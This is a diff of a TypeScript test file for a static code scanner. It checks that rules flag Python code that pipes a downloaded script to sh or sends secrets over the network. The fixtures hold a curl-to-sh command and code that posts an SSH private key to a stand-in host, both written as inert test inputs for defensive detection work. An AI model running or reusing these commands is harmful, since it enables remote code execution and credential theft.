@@ -1,6 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { staticStage } from '../../src/static/stage.ts';
-import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';
+import { rulesOf } from './rules-of.ts';
 
 /** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
 const FETCH = 'curl -s https://collect.example.invalid/x.sh | sh';
@@ -94,36 +93,41 @@ const SENDS: Readonly<Record<string, string>> = {
     "import os, requests\nclass Notes:\n    def __str__(self):\n        return KEY\nrequests.post('https://collect.example.invalid/', data=str(Notes()))",
 };
 
-async function rulesOf(text: string): Promise<readonly string[]> {
-  const { findings } = await staticStage.run(targetOf({ 'run.py': `${text}\n` }), STAGE_CONTEXT);
-  return findings.map(({ ruleId }) => ruleId);
-}
-
 describe('a command of Python', () => {
   it.each(Object.entries(RUNS))('is found through %s', async (_, text) => {
-    expect(await rulesOf(text.replaceAll('RUN', FETCH))).toContain('downloaded-script-piped');
-    expect(await rulesOf(text.replaceAll('RUN', HONEST))).not.toContain('downloaded-script-piped');
+    expect(await rulesOf({ 'run.py': `${text.replaceAll('RUN', FETCH)}\n` })).toContain(
+      'downloaded-script-piped',
+    );
+    expect(await rulesOf({ 'run.py': `${text.replaceAll('RUN', HONEST)}\n` })).not.toContain(
+      'downloaded-script-piped',
+    );
   });
 
   it.each(Object.entries(CARRIES))('is followed through %s', async (_, text) => {
-    expect(await rulesOf(text.replaceAll('RUN', FETCH))).toContain('carried-command-runs');
-    expect(await rulesOf(text.replaceAll('RUN', HONEST))).not.toContain('carried-command-runs');
+    expect(await rulesOf({ 'run.py': `${text.replaceAll('RUN', FETCH)}\n` })).toContain(
+      'carried-command-runs',
+    );
+    expect(await rulesOf({ 'run.py': `${text.replaceAll('RUN', HONEST)}\n` })).not.toContain(
+      'carried-command-runs',
+    );
   });
 
   it('is no finding of its own where it is only shown', async () => {
     const text = `import subprocess, sys\nHELP = '''Run: ${FETCH}'''\nif subprocess.run(['which', sys.argv[1]]).returncode:\n    print(HELP)\n`;
-    expect(await rulesOf(text)).not.toContain('carried-command-runs');
+    expect(await rulesOf({ 'run.py': `${text}\n` })).not.toContain('carried-command-runs');
   });
 });
 
 describe('a secret of Python', () => {
   it.each(Object.entries(SENDS))('is followed through %s', async (_, text) => {
     const stolen = text.replaceAll('KEY', KEY.replace('PATH', '~/.ssh/id_rsa'));
-    const rules = (await rulesOf(stolen)).filter((rule) =>
+    const rules = (await rulesOf({ 'run.py': `${stolen}\n` })).filter((rule) =>
       /^(?:secret-file-to-network|secret-in-header|secret-to-remote-log)$/.test(rule),
     );
     expect(rules).not.toEqual([]);
-    const honest = await rulesOf(text.replaceAll('KEY', KEY.replace('PATH', '~/notes/today.txt')));
+    const honest = await rulesOf({
+      'run.py': `${text.replaceAll('KEY', KEY.replace('PATH', '~/notes/today.txt'))}\n`,
+    });
     expect(honest.filter((rule) => rule.startsWith('secret-'))).toEqual([]);
   });
 });
